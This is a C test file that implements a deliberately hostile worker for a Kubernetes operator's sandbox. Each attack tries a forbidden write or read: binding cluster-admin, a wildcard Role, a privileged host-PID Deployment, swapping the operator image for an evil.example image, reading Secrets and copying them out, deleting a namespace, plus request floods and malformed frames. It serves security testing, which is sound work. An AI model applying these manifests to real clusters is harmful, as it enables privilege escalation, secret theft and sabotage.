/*
 * hostile_worker.c: bin/hostile/sympozium-worker-hostile, a worker that a
 * compromised reconciler could be: started by sympoziumd through
 * --worker-binary exactly as sympozium-worker is, it says HELLO, takes
 * READY, enters the real sandbox (workers/sandbox.h) and then answers each
 * WORK with the attack named by its key's name (WORK for default/crb-admin
 * runs attack "crb-admin"; the table is attacks[] below, the list with
 * what each one tries is tests/hostile/README.md).  It speaks the wire
 * protocol (ipc/ipc.h) over its own nng pair1 socket, so it can also send
 * frames that ipc_encode() would never produce.
 *
 * A key whose name starts with HOSTILE_BENIGN_PREFIX, an unknown attack,
 * a deleted object and any retry of an attack key (attempt > 0: after a
 * failed write or a kill; but the write loop's own requeues in the
 * process that started it) are answered done without writes, so each
 * attack is tried once and never spills into another one's window.  Everything
 * it does and every view reply it gets is written to stderr (hostile.h), the
 * supervisor's log, so the test can tell whether a Secret value ever reached
 * it.
 */
#include <fcntl.h>
#include <inttypes.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

#include <nng/nng.h>
#include <nng/protocol/pair1/pair.h>
#include <nng/supplemental/util/platform.h>

#include "common/buf.h"
#include "common/contract.h"
#include "common/jsonx.h"
#include "ipc/ipc.h"
#include "tests/hostile/hostile.h"
#include "workers/sandbox.h"

#define DIAL_TIMEOUT_MS 5000
#define RECV_TIMEOUT_MS 5000
#define FLOOD_VIEWS     20000
#define FLOOD_MS        8000
#define LOOP_MS         10000
#define LOOP_WRITES     50
#define LOOP_MAX_TOTAL  3000
#define BIG_BYTES       (15u * 1000 * 1000)
#define SHOW_MAX        4000

static const struct ipc_res r_crb
        = { "rbac.authorization.k8s.io", "v1", "clusterrolebindings", false };
static const struct ipc_res r_roles
        = { "rbac.authorization.k8s.io", "v1", "roles", true };
static const struct ipc_res r_secrets = { "", "v1", "secrets", true };
static const struct ipc_res r_deploy = CONTRACT_RES_DEPLOYMENTS;
static const struct ipc_res r_crd
        = { "apiextensions.k8s.io", "v1", "customresourcedefinitions", false };
static const struct ipc_res r_cm = CONTRACT_RES_CONFIGMAPS;
static const struct ipc_res r_ns = { "", "v1", "namespaces", false };
static const struct ipc_res r_events = { "", "v1", "events", true };
static const struct ipc_res r_leases
        = { "coordination.k8s.io", "v1", "leases", true };
static const struct ipc_res r_skillpacks = CONTRACT_RES_SKILLPACKS;

/* The session and the reconcile in flight. */
struct hw {
	nng_socket s;
	int64_t epoch;
	int64_t next_id;
	const struct ipc_work *w;
	const char *name; /* the primary's name (the attack) */
	const char *uid;  /* the primary's uid ("" when absent) */
	uint32_t reqid;   /* the WORK's, echoed on the RESULT */
	json_object *result;
};

static void __attribute__((format(printf, 1, 2))) say(const char *fmt, ...)
{
	char line[SHOW_MAX + 256];
	va_list ap;
	int n = snprintf(
	        line, sizeof(line), HOSTILE_TAG "%d]: ", (int)getpid());

	va_start(ap, fmt);
	n += vsnprintf(line + n, sizeof(line) - (size_t)n - 1, fmt, ap);
	va_end(ap);
	if (n > (int)sizeof(line) - 2) {
		n = (int)sizeof(line) - 2;
	}
	line[n++] = '\n';
	(void)!write(STDERR_FILENO, line, (size_t)n);
}

static int64_t
now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ((int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000);
}

/* ---- transport ---- */

static int
send_raw(struct hw *h, const void *p, size_t n)
{
	nng_msg *m;

	if (nng_msg_alloc(&m, 0) != 0) {
		return (-1);
	}
	if (nng_msg_append(m, p, n) != 0 || nng_sendmsg(h->s, m, 0) != 0) {
		nng_msg_free(m);
		return (-1);
	}
	return (0);
}

static int
send_msg(struct hw *h, enum ipc_type t, uint32_t reqid, json_object *body)
{
	struct buf b = BUF_INIT;
	int rc = -1;

	if (ipc_encode(t, reqid, body, &b) == 0) {
		rc = send_raw(h, b.data, b.len);
	}
	buf_fini(&b);
	return (rc);
}

/* The next message within ms: 0 (decoded into *m), 1 on timeout, -1 on a
 * broken session. */
static int
recv_msg(struct hw *h, int ms, struct ipc_msg *m, bool nonblock)
{
	char err[256];
	void *p = NULL;
	size_t n = 0;
	int rv;

	nng_socket_set_ms(h->s, NNG_OPT_RECVTIMEO, ms);
	rv = nng_recv(h->s, &p, &n,
	        NNG_FLAG_ALLOC | (nonblock ? NNG_FLAG_NONBLOCK : 0));
	if (rv == NNG_ETIMEDOUT || rv == NNG_EAGAIN) {
		return (1);
	}
	if (rv != 0) {
		return (-1);
	}
	rv = ipc_decode(p, n, 0, m, err, sizeof(err));
	nng_free(p, n);
	if (rv != 0) {
		say("bad message from the supervisor: %s", err);
	}
	return (rv == 0 ? 0 : -1);
}

/* Answers a heartbeat; true when m was one. */
static bool
heartbeat(struct hw *h, const struct ipc_msg *m)
{
	int64_t seq;

	if (m->type != IPC_HEARTBEAT || ipc_heartbeat_read(m, &seq) != 0) {
		return (false);
	}
	json_object *b = ipc_heartbeat_new(seq);
	send_msg(h, IPC_HEARTBEAT, m->reqid, b);
	json_object_put(b);
	return (true);
}

static int
dial(struct hw *h, const char *path)
{
	char url[4200];
	int64_t until = now_ms() + DIAL_TIMEOUT_MS;

	snprintf(url, sizeof(url), "ipc://%s", path);
	if (nng_pair1_open(&h->s) != 0
	        || nng_socket_set_size(h->s, NNG_OPT_RECVMAXSZ, 0) != 0) {
		return (-1);
	}
	while (nng_dial(h->s, url, NULL, 0) != 0) {
		if (now_ms() > until) {
			return (-1);
		}
		nng_msleep(20);
	}
	return (0);
}

static int
handshake(struct hw *h, const char *controller)
{
	json_object *hello = ipc_hello_new(controller, getpid());
	struct ipc_msg m = { 0 };
	int rc;

	send_msg(h, IPC_HELLO, 0, hello);
	json_object_put(hello);
	while ((rc = recv_msg(h, RECV_TIMEOUT_MS, &m, false)) == 0
	        && heartbeat(h, &m)) {
		ipc_msg_fini(&m);
	}
	if (rc != 0 || m.type != IPC_READY || ipc_ready_read(&m, &h->epoch)) {
		ipc_msg_fini(&m);
		return (-1);
	}
	ipc_msg_fini(&m);
	return (0);
}

/* ---- building blocks ---- */

/* A JSON object from a printf format; NULL (said) when it does not parse. */
static json_object *__attribute__((format(printf, 1, 2)))
jf(const char *fmt, ...)
{
	char *s = NULL;
	va_list ap;

	va_start(ap, fmt);
	if (vasprintf(&s, fmt, ap) < 0) {
		s = NULL;
	}
	va_end(ap);
	json_object *o = s != NULL ? json_tokener_parse(s) : NULL;
	if (o == NULL) {
		say("bad template %.200s", s != NULL ? s : fmt);
	}
	free(s);
	return (o);
}

static void
add(struct hw *h, enum ipc_op op, const struct ipc_res *r, const char *ns,
        const char *name, json_object *obj)
{
	ipc_result_add_write(h->result, ipc_write_new(op, r, ns, name, obj));
}

static void
addp(struct hw *h, const struct ipc_res *r, const char *ns, const char *name,
        json_object *patch)
{
	ipc_result_add_write(h->result,
	        ipc_write_patch_new(r, ns, name, patch, IPC_PATCH_MERGE));
}

/* A ConfigMap that looks like the primary's child (its label and a
 * controller ownerReference to uid), named <primary>-suffix, with extra
 * JSON members in the object (may be ""). */
static json_object *
child(struct hw *h, const char *suffix, const char *uid, const char *extra)
{
	return (jf("{\"apiVersion\":\"v1\",\"kind\":\"ConfigMap\","
	           "\"metadata\":{\"name\":\"%s-%s\",\"namespace\":\"%s\","
	           "\"labels\":{\"" CONTRACT_LABEL_SKILLPACK "\":\"%s\","
	           "\"" HOSTILE_LABEL "\":\"%s\"},"
	           "\"ownerReferences\":[{\"apiVersion\":\"sympozium.ai/"
	           "v1alpha1\",\"kind\":\"SkillPack\",\"name\":\"%s\","
	           "\"uid\":\"%s\",\"controller\":true,"
	           "\"blockOwnerDeletion\":true}]}%s%s}",
	        h->name, suffix, HOSTILE_NS, h->name, h->name, h->name, uid,
	        extra[0] != '\0' ? "," : "", extra));
}

/* Prints a view reply (truncated), the evidence of what reached us. */
static void
show(const char *what, json_object *body)
{
	const char *s = json_object_to_json_string_ext(
	        body, JSON_C_TO_STRING_PLAIN | JSON_C_TO_STRING_NOSLASHESCAPE);

	say("view %s reply: %.*s", what, SHOW_MAX, s);
}

/* Sends a VIEW_REQ built from req (taken; "id" is set here) and waits for
 * its reply, answering heartbeats.  Returns the reply body (caller puts)
 * or NULL. */
static json_object *
view(struct hw *h, const char *what, json_object *req)
{
	int64_t id = h->next_id++, got;
	struct ipc_msg m = { 0 };

	json_object_object_add(req, "id", json_object_new_int64(id));
	send_msg(h, IPC_VIEW_REQ, 0, req);
	json_object_put(req);
	for (;;) {
		if (recv_msg(h, RECV_TIMEOUT_MS, &m, false) != 0) {
			say("view %s: no reply", what);
			return (NULL);
		}
		if (m.type == IPC_VIEW_REPLY
		        && jx_get_int(m.body, "id", &got) == 0 && got == id) {
			json_object *b = json_object_get(m.body);
			ipc_msg_fini(&m);
			show(what, b);
			return (b);
		}
		heartbeat(h, &m);
		ipc_msg_fini(&m);
	}
}

static void
view_show(struct hw *h, const char *what, json_object *req)
{
	json_object_put(view(h, what, req));
}

/* ---- the attacks: each fills h->result; returns 0 to have it sent, 1
 * when it sent what it wanted itself ---- */

static int
crb_admin(struct hw *h)
{
	add(h, IPC_OP_CREATE, &r_crb, NULL, NULL,
	        jf("{\"apiVersion\":\"rbac.authorization.k8s.io/v1\","
	           "\"kind\":\"ClusterRoleBinding\",\"metadata\":{\"name\":"
	           "\"hostile-admin\"},\"roleRef\":{\"apiGroup\":\"rbac."
	           "authorization.k8s.io\",\"kind\":\"ClusterRole\",\"name\":"
	           "\"cluster-admin\"},\"subjects\":[{\"kind\":"
	           "\"ServiceAccount\",\"name\":\"default\",\"namespace\":"
	           "\"default\"}]}"));
	return (0);
}

static int
role_star(struct hw *h)
{
	add(h, IPC_OP_CREATE, &r_roles, "kube-system", NULL,
	        jf("{\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"kind\":"
	           "\"Role\",\"metadata\":{\"name\":\"hostile-all\","
	           "\"namespace\":\"kube-system\"},\"rules\":[{\"apiGroups\":"
	           "[\"*\"],\"resources\":[\"*\"],\"verbs\":[\"*\"]}]}"));
	return (0);
}

static int
secret_kube_system(struct hw *h)
{
	add(h, IPC_OP_CREATE, &r_secrets, "kube-system", NULL,
	        jf("{\"apiVersion\":\"v1\",\"kind\":\"Secret\",\"metadata\":"
	           "{\"name\":\"hostile-secret\",\"namespace\":\"kube-"
	           "system\"},"
	           "\"stringData\":{\"token\":\"planted\"}}"));
	return (0);
}

static int
deploy_privileged(struct hw *h)
{
	add(h, IPC_OP_CREATE, &r_deploy, "kube-system", NULL,
	        jf("{\"apiVersion\":\"apps/v1\",\"kind\":\"Deployment\","
	           "\"metadata\":{\"name\":\"hostile-node\",\"namespace\":"
	           "\"kube-system\"},\"spec\":{\"replicas\":1,\"selector\":"
	           "{\"matchLabels\":{\"app\":\"hostile\"}},\"template\":"
	           "{\"metadata\":{\"labels\":{\"app\":\"hostile\"}},\"spec\":"
	           "{\"hostPID\":true,\"hostNetwork\":true,\"containers\":"
	           "[{\"name\":\"c\",\"image\":\"busybox\","
	           "\"securityContext\":"
	           "{\"privileged\":true}}]}}}}"));
	return (0);
}

static int
patch_operator(struct hw *h)
{
	addp(h, &r_deploy, HOSTILE_OP_NS, HOSTILE_OP_DEPLOY,
	        jf("{\"spec\":{\"template\":{\"spec\":{\"containers\":[{"
	           "\"name\":\"manager\",\"image\":\"evil.example/"
	           "op:pwn\"}]}}}}"));
	return (0);
}

static int
crd_create(struct hw *h)
{
	add(h, IPC_OP_CREATE, &r_crd, NULL, NULL,
	        jf("{\"apiVersion\":\"apiextensions.k8s.io/v1\",\"kind\":"
	           "\"CustomResourceDefinition\",\"metadata\":{\"name\":"
	           "\"evils.hostile.example\"},\"spec\":{\"group\":"
	           "\"hostile.example\",\"scope\":\"Namespaced\",\"names\":{"
	           "\"plural\":\"evils\",\"singular\":\"evil\",\"kind\":"
	           "\"Evil\"},\"versions\":[{\"name\":\"v1\",\"served\":true,"
	           "\"storage\":true,\"schema\":{\"openAPIV3Schema\":{"
	           "\"type\":"
	           "\"object\",\"x-kubernetes-preserve-unknown-fields\":"
	           "true}}}]}}"));
	return (0);
}

static int
delete_cm_elsewhere(struct hw *h)
{
	add(h, IPC_OP_DELETE, &r_cm, HOSTILE_NS_VICTIM, HOSTILE_CM_VICTIM,
	        NULL);
	return (0);
}

static int
delete_namespace(struct hw *h)
{
	add(h, IPC_OP_DELETE, &r_ns, NULL, HOSTILE_NS_VICTIM, NULL);
	return (0);
}

static json_object *
event_obj(const char *ns, const char *kind, const char *name)
{
	return (jf("{\"apiVersion\":\"v1\",\"kind\":\"Event\",\"metadata\":{"
	           "\"generateName\":\"hostile-\",\"namespace\":\"%s\"},"
	           "\"involvedObject\":{\"kind\":\"%s\",\"name\":\"%s\","
	           "\"namespace\":\"%s\"},\"reason\":\"" HOSTILE_REASON "\","
	           "\"message\":\"planted\",\"type\":\"Normal\"}",
	        ns, kind, name, ns));
}

static int
event_kube_system(struct hw *h)
{
	add(h, IPC_OP_EVENT, &r_events, "kube-system", NULL,
	        event_obj("kube-system", "Pod", "kube-apiserver"));
	return (0);
}

/* An Event write whose resource is secrets: the body lands as a Secret
 * when the event path takes the worker's resource. */
static int
event_secrets(struct hw *h)
{
	json_object *o = event_obj(HOSTILE_NS, "SkillPack", h->name);

	json_object_object_add(o, "stringData", jf("{\"planted\":\"yes\"}"));
	add(h, IPC_OP_EVENT, &r_secrets, HOSTILE_NS, NULL, o);
	return (0);
}

/* Deletes of ConfigMaps with names that are paths: "..", "", ".", "a/b",
 * "%2e%2e"; the attack's name says which. */
static int
delete_badname(struct hw *h)
{
	static const struct {
		const char *attack, *name;
	} names[] = {
		{ "delete-dotdot", ".." },
		{ "delete-empty", "" },
		{ "delete-dot", "." },
		{ "delete-slash", "a/b" },
		{ "delete-pct", "%2e%2e" },
		{ "delete-pct-slash", "x%2f..%2f.." },
	};

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		if (strcmp(h->name, names[i].attack) == 0) {
			add(h, IPC_OP_DELETE, &r_cm, HOSTILE_NS_VICTIM,
			        names[i].name, NULL);
		}
	}
	return (0);
}

static int
lease_ssa(struct hw *h)
{
	add(h, IPC_OP_APPLY, &r_leases, HOSTILE_OP_NS, HOSTILE_LEASE,
	        jf("{\"apiVersion\":\"coordination.k8s.io/v1\",\"kind\":"
	           "\"Lease\",\"metadata\":{\"name\":\"" HOSTILE_LEASE "\","
	           "\"namespace\":\"" HOSTILE_OP_NS "\"},\"spec\":{"
	           "\"holderIdentity\":\"hostile\",\"leaseDurationSeconds\":"
	           "3600}}"));
	return (0);
}

/* Telemetry another controller owns, inflated: the agentrun's run counter
 * a million times, with an attribute of its choosing. */
static int
telemetry_forged(struct hw *h)
{
	json_object_object_add(h->result, "telemetry",
	        jf("{\"metrics\":[{\"name\":\"sympozium.agent.runs\","
	           "\"value\":1000000,\"attrs\":{\"sympozium.instance\":"
	           "\"hostile\"}}]}"));
	return (0);
}

/* A memory-server store only the agentrun controller may ask for: a
 * request the supervisor would send on its behalf. */
static int
memory_store_forged(struct hw *h)
{
	json_object_object_add(
	        h->result, "memoryStore", jf("{\"content\":\"planted\"}"));
	return (0);
}

static json_object *
vreq(const char *what, const struct ipc_res *r, const char *ns,
        const char *name)
{
	json_object *q = json_object_new_object();

	json_object_object_add(q, "what", json_object_new_string(what));
	if (r != NULL) {
		json_object *res = jf("{\"group\":\"%s\",\"version\":\"%s\","
		                      "\"plural\":\"%s\",\"namespaced\":%s}",
		        r->group, r->version, r->plural,
		        r->namespaced ? "true" : "false");
		json_object_object_add(q, "resource", res);
	}
	if (ns != NULL) {
		json_object_object_add(
		        q, "namespace", json_object_new_string(ns));
	}
	if (name != NULL) {
		json_object_object_add(
		        q, "name", json_object_new_string(name));
	}
	return (q);
}

static int
view_secret_kube_system(struct hw *h)
{
	view_show(h, "get",
	        vreq("get", &r_secrets, "kube-system", HOSTILE_SECRET));
	view_show(h, "list", vreq("list", &r_secrets, "kube-system", NULL));
	return (0);
}

static int
view_secret_own_ns(struct hw *h)
{
	view_show(
	        h, "get", vreq("get", &r_secrets, HOSTILE_NS, HOSTILE_SECRET));
	view_show(h, "list", vreq("list", &r_secrets, HOSTILE_NS, NULL));
	return (0);
}

static int
view_secret_meta_other_ns(struct hw *h)
{
	view_show(h, "meta",
	        vreq("secret_meta", NULL, "kube-system", HOSTILE_SECRET));
	return (0);
}

static int
view_secret_meta_applied(struct hw *h)
{
	view_show(h, "meta",
	        vreq("secret_meta", NULL, HOSTILE_NS, HOSTILE_SECRET_APPLIED));
	return (0);
}

static int
view_list_other_ns(struct hw *h)
{
	view_show(h, "cm", vreq("list", &r_cm, HOSTILE_NS_VICTIM, NULL));
	view_show(h, "cm-get",
	        vreq("get", &r_cm, HOSTILE_NS_VICTIM, HOSTILE_CM_VICTIM));
	return (0);
}

static int
view_list_cluster(struct hw *h)
{
	view_show(h, "cm-all", vreq("list", &r_cm, "", NULL));
	view_show(h, "secrets-all", vreq("list", &r_secrets, "", NULL));
	return (0);
}

static int
view_pod_log(struct hw *h)
{
	view_show(h, "log", vreq("pod_log", NULL, "kube-system", "etcd-node"));
	return (0);
}

/* 20,000 view requests without waiting for their answers (only for the
 * transport's queue), for at most FLOOD_MS. */
static int
view_flood(struct hw *h)
{
	int64_t until = now_ms() + FLOOD_MS;
	int sent = 0, ok = 0, other = 0, replies = 0;
	struct ipc_msg m = { 0 };

	while (replies < FLOOD_VIEWS && now_ms() < until) {
		if (sent < FLOOD_VIEWS) {
			json_object *q = vreq(
			        "get", &r_cm, HOSTILE_NS, "flood-absent");
			json_object_object_add(
			        q, "id", json_object_new_int64(h->next_id++));
			struct buf b = BUF_INIT;
			ipc_encode(IPC_VIEW_REQ, 0, q, &b);
			json_object_put(q);
			if (nng_send(h->s, b.data, b.len, NNG_FLAG_NONBLOCK)
			        == 0) {
				sent++;
			} else {
				h->next_id--;
			}
			buf_fini(&b);
		}
		int rc = recv_msg(h, 1, &m, sent < FLOOD_VIEWS);
		if (rc < 0) {
			break;
		}
		if (rc == 0 && m.type == IPC_VIEW_REPLY) {
			replies++;
			const char *st = jx_get_str(m.body, "status");
			(st != NULL && strcmp(st, "error") != 0) ? ok++
			                                         : other++;
		} else if (rc == 0) {
			heartbeat(h, &m);
		}
		ipc_msg_fini(&m);
	}
	say("view flood: sent %d, replies %d (not_found/ok %d, error %d)",
	        sent, replies, ok, other);
	return (0);
}

/* A write loop: LOOP_WRITES applies of one well-formed child per RESULT,
 * requeued at once, for LOOP_MS or LOOP_MAX_TOTAL writes. */
static int
write_loop(struct hw *h)
{
	static int64_t started = -1;
	static int total;

	if (started < 0) {
		started = now_ms();
	}
	if (now_ms() - started > LOOP_MS || total >= LOOP_MAX_TOTAL) {
		say("attack %s finished (%d writes)", h->name, total);
		return (0);
	}
	for (int i = 0; i < LOOP_WRITES; i++, total++) {
		char extra[64];
		snprintf(extra, sizeof(extra), "\"data\":{\"n\":\"%d\"}",
		        total);
		json_object *c = child(h, "loop", h->uid, extra);
		const char *nm = jx_get_str(c, "metadata.name");
		char name[300];
		snprintf(name, sizeof(name), "%s", nm);
		add(h, IPC_OP_APPLY, &r_cm, HOSTILE_NS, name, c);
	}
	json_object_object_add(h->result, "verdict",
	        jf("{\"kind\":\"requeue_after\",\"afterMs\":1}"));
	return (0);
}

static int
big_object(struct hw *h)
{
	char *s = malloc(BIG_BYTES + 1);

	memset(s, 'x', BIG_BYTES);
	s[BIG_BYTES] = '\0';
	json_object *c = child(h, "big", h->uid, "");
	json_object *d = json_object_new_object();
	json_object_object_add(d, "blob", json_object_new_string(s));
	json_object_object_add(c, "data", d);
	free(s);
	add(h, IPC_OP_CREATE, &r_cm, HOSTILE_NS, NULL, c);
	return (0);
}

/* A child labelled and owned as another primary's (owner-b), whose uid
 * the worker reads through a sanctioned view. */
static int
child_other_owner(struct hw *h)
{
	json_object *r = view(h, "owner-b",
	        vreq("get", &r_skillpacks, HOSTILE_NS, HOSTILE_OTHER_PRIMARY));
	const char *uid = jx_get_str(jx_get(r, "object"), "metadata.uid");
	json_object *c = child(h, "stolen", uid != NULL ? uid : "none", "");

	jx_setv(c, json_object_new_string(HOSTILE_OTHER_PRIMARY), "metadata",
	        "labels", CONTRACT_LABEL_SKILLPACK, NULL);
	json_object_put(r);
	add(h, IPC_OP_CREATE, &r_cm, HOSTILE_NS, NULL, c);
	return (0);
}

static int
child_no_label(struct hw *h)
{
	json_object *c = child(h, "nolabel", h->uid, "");

	jx_strip(c, "metadata.labels");
	add(h, IPC_OP_CREATE, &r_cm, HOSTILE_NS, NULL, c);
	return (0);
}

static int
child_no_owner(struct hw *h)
{
	json_object *c = child(h, "noowner", h->uid, "");

	jx_strip(c, "metadata.ownerReferences");
	add(h, IPC_OP_CREATE, &r_cm, HOSTILE_NS, NULL, c);
	return (0);
}

static int
child_other_ns(struct hw *h)
{
	json_object *c = child(h, "elsewhere", h->uid, "");

	jx_set_path(c, "metadata.namespace",
	        json_object_new_string(HOSTILE_NS_VICTIM));
	add(h, IPC_OP_CREATE, &r_cm, HOSTILE_NS_VICTIM, NULL, c);
	return (0);
}

static int
update_not_owned(struct hw *h)
{
	add(h, IPC_OP_UPDATE, &r_cm, HOSTILE_NS, HOSTILE_CM_LOOSE,
	        jf("{\"apiVersion\":\"v1\",\"kind\":\"ConfigMap\","
	           "\"metadata\":"
	           "{\"name\":\"" HOSTILE_CM_LOOSE
	           "\",\"namespace\":\"" HOSTILE_NS
	           "\"},\"data\":{\"owner\":\"hostile\"}}"));
	return (0);
}

static int
patch_not_owned(struct hw *h)
{
	addp(h, &r_cm, HOSTILE_NS, HOSTILE_CM_LOOSE,
	        jf("{\"data\":{\"owner\":\"hostile\"}}"));
	return (0);
}

static int
delete_not_owned(struct hw *h)
{
	add(h, IPC_OP_DELETE, &r_cm, HOSTILE_NS, HOSTILE_CM_LOOSE, NULL);
	return (0);
}

static int
patch_other_child(struct hw *h)
{
	addp(h, &r_cm, HOSTILE_NS, HOSTILE_OTHER_CHILD,
	        jf("{\"data\":{\"owner\":\"hostile\"}}"));
	return (0);
}

static int
status_other_primary(struct hw *h)
{
	add(h, IPC_OP_UPDATE_STATUS, &r_skillpacks, HOSTILE_NS,
	        HOSTILE_OTHER_PRIMARY,
	        jf("{\"apiVersion\":\"sympozium.ai/v1alpha1\",\"kind\":"
	           "\"SkillPack\",\"metadata\":{\"name\":"
	           "\"" HOSTILE_OTHER_PRIMARY "\",\"namespace\":\"" HOSTILE_NS
	           "\"},"
	           "\"status\":{\"phase\":\"Hijacked\"}}"));
	return (0);
}

static int
event_other_object(struct hw *h)
{
	add(h, IPC_OP_EVENT, &r_events, HOSTILE_NS, NULL,
	        event_obj(HOSTILE_NS, "SkillPack", HOSTILE_OTHER_PRIMARY));
	return (0);
}

/* Reads the Secret of its own namespace and writes its value into a
 * well-formed child. */
static int
exfil_secret(struct hw *h)
{
	json_object *r = view(h, "secret",
	        vreq("get", &r_secrets, HOSTILE_NS, HOSTILE_SECRET));
	json_object *data = jx_get(jx_get(r, "object"), "data");

	/* nothing stolen, nothing written: a well-formed child alone is no
	 * attack */
	if (data != NULL) {
		json_object *c = child(h, "exfil", h->uid, "");
		json_object_object_add(c, "data", jx_copy(data));
		add(h, IPC_OP_CREATE, &r_cm, HOSTILE_NS, NULL, c);
	}
	json_object_put(r);
	return (0);
}

/* ---- what already kills the session ---- */

/* The sandbox: opening a file kills the worker (SIGSYS). */
static int
sandbox_open(struct hw *h)
{
	int fd = open("/etc/hostname", O_RDONLY | O_CLOEXEC);

	say("attack %s: open gave %d", h->name, fd);
	if (fd >= 0) {
		close(fd);
	}
	return (0);
}

static int
result_other_key(struct hw *h)
{
	json_object *b = ipc_result_new(
	        "default/someone-else", h->epoch, IPC_V_DONE, 0, NULL);

	send_msg(h, IPC_RESULT, h->reqid, b);
	json_object_put(b);
	return (1);
}

static int
result_wrong_epoch(struct hw *h)
{
	json_object *b = ipc_result_new(
	        h->w->key, h->w->epoch + 1000, IPC_V_DONE, 0, NULL);

	send_msg(h, IPC_RESULT, h->reqid, b);
	json_object_put(b);
	return (1);
}

static void
header(uint8_t *p, uint32_t magic, uint16_t type, uint32_t len)
{
	const uint8_t v[16] = { magic >> 24, magic >> 16, magic >> 8, magic, 0,
		IPC_VERSION, 0, (uint8_t)type, 0, 0, 0, 0, len >> 24,
		len >> 16, len >> 8, len };

	memcpy(p, v, sizeof(v));
}

static int
frame_bad_magic(struct hw *h)
{
	uint8_t f[18];

	header(f, 0xdeadbeefu, IPC_RESULT, 2);
	memcpy(f + 16, "{}", 2);
	send_raw(h, f, sizeof(f));
	return (1);
}

static int
frame_oversize(struct hw *h)
{
	uint8_t f[18];

	header(f, IPC_MAGIC, IPC_RESULT, 0xfffffff0u);
	memcpy(f + 16, "{}", 2);
	send_raw(h, f, sizeof(f));
	return (1);
}

static int
frame_truncated(struct hw *h)
{
	uint8_t f[26];

	header(f, IPC_MAGIC, IPC_RESULT, 100);
	memcpy(f + 16, "{\"key\":\"x", 10);
	send_raw(h, f, sizeof(f));
	return (1);
}

/* A RESULT of len body bytes from text. */
static int
send_body(struct hw *h, const char *text)
{
	size_t n = strlen(text);
	uint8_t *f = malloc(16 + n);

	header(f, IPC_MAGIC, IPC_RESULT, (uint32_t)n);
	memcpy(f + 16, text, n);
	send_raw(h, f, 16 + n);
	free(f);
	return (1);
}

static int
json_deep(struct hw *h)
{
	struct buf b = BUF_INIT;

	buf_printf(&b,
	        "{\"key\":\"%s\",\"epoch\":%" PRId64
	        ",\"verdict\":{\"kind\":\"done\"},\"x\":",
	        h->w->key, h->w->epoch);
	for (int i = 0; i < 200; i++) {
		buf_puts(&b, "[");
	}
	for (int i = 0; i < 200; i++) {
		buf_puts(&b, "]");
	}
	buf_puts(&b, "}");
	send_body(h, buf_str(&b));
	buf_fini(&b);
	return (1);
}

static int
json_invalid(struct hw *h)
{
	return (send_body(h, "{\"key\":\"default/json-invalid\",\"epoch\":"));
}

static const struct attack {
	const char *name;
	int (*fn)(struct hw *h);
} attacks[] = {
	{ "crb-admin", crb_admin },
	{ "role-star", role_star },
	{ "secret-kube-system", secret_kube_system },
	{ "deploy-privileged", deploy_privileged },
	{ "patch-operator", patch_operator },
	{ "crd-create", crd_create },
	{ "delete-cm-elsewhere", delete_cm_elsewhere },
	{ "event-kube-system", event_kube_system },
	{ "event-secrets", event_secrets },
	{ "delete-dotdot", delete_badname },
	{ "delete-empty", delete_badname },
	{ "delete-dot", delete_badname },
	{ "delete-slash", delete_badname },
	{ "delete-pct", delete_badname },
	{ "delete-pct-slash", delete_badname },
	{ "lease-ssa", lease_ssa },
	{ "telemetry-forged", telemetry_forged },
	{ "memory-store-forged", memory_store_forged },
	{ "view-secret-kube-system", view_secret_kube_system },
	{ "view-secret-own-ns", view_secret_own_ns },
	{ "view-secret-meta-other-ns", view_secret_meta_other_ns },
	{ "view-secret-meta-applied", view_secret_meta_applied },
	{ "view-list-other-ns", view_list_other_ns },
	{ "view-list-cluster", view_list_cluster },
	{ "view-pod-log", view_pod_log },
	{ "view-flood", view_flood },
	{ "write-loop", write_loop },
	{ "big-object", big_object },
	{ "child-other-owner", child_other_owner },
	{ "child-no-label", child_no_label },
	{ "child-no-owner", child_no_owner },
	{ "child-other-ns", child_other_ns },
	{ "update-not-owned", update_not_owned },
	{ "patch-not-owned", patch_not_owned },
	{ "delete-not-owned", delete_not_owned },
	{ "patch-other-child", patch_other_child },
	{ "status-other-primary", status_other_primary },
	{ "event-other-object", event_other_object },
	{ "exfil-secret", exfil_secret },
	{ "delete-namespace", delete_namespace },
	{ "result-other-key", result_other_key },
	{ "result-wrong-epoch", result_wrong_epoch },
	{ "frame-bad-magic", frame_bad_magic },
	{ "frame-oversize", frame_oversize },
	{ "frame-truncated", frame_truncated },
	{ "json-deep", json_deep },
	{ "json-invalid", json_invalid },
	{ "sandbox-open", sandbox_open },
};

static const struct attack *
find_attack(const char *name)
{
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		if (strcmp(attacks[i].name, name) == 0) {
			return (&attacks[i]);
		}
	}
	return (NULL);
}

/* Keys this process has seen (the write loop goes on only in the process
 * that started it). */
static char seen[64][IPC_KEY_MAX + 1];
static int nseen;

static bool
seen_key(const char *key)
{
	for (int i = 0; i < nseen; i++) {
		if (strcmp(seen[i], key) == 0) {
			return (true);
		}
	}
	if (nseen < 64) {
		snprintf(seen[nseen++], sizeof(seen[0]), "%s", key);
	}
	return (false);
}

static void
work(struct hw *h, const struct ipc_msg *m)
{
	struct ipc_work w;
	const struct attack *a;

	if (ipc_work_read(m, &w) != 0) {
		say("malformed WORK");
		exit(1);
	}
	const char *sl = strchr(w.key, '/');
	h->w = &w;
	h->name = sl != NULL ? sl + 1 : w.key;
	h->uid = jx_get_str(w.object, "metadata.uid");
	h->uid = h->uid != NULL ? h->uid : "";
	h->reqid = m->reqid;
	h->result = ipc_result_new(w.key, w.epoch, IPC_V_DONE, 0, NULL);
	bool again = seen_key(w.key);
	a = w.object != NULL ? find_attack(h->name) : NULL;
	/* one attack per key: a retry (after a failed write, or a kill) is
	 * harmless, but for the write loop's own requeues */
	bool loop = a != NULL && a->fn == write_loop && again;
	if (a == NULL || (w.attempt > 0 && !loop)) {
		send_msg(h, IPC_RESULT, h->reqid, h->result);
		say("benign %s done", w.key);
	} else {
		say("attack %s start", a->name);
		if (a->fn(h) == 0) {
			send_msg(h, IPC_RESULT, h->reqid, h->result);
		}
		say("attack %s sent", a->name);
	}
	json_object_put(h->result);
	h->result = NULL;
}

static void
serve(struct hw *h)
{
	struct ipc_msg m = { 0 };
	int rc;

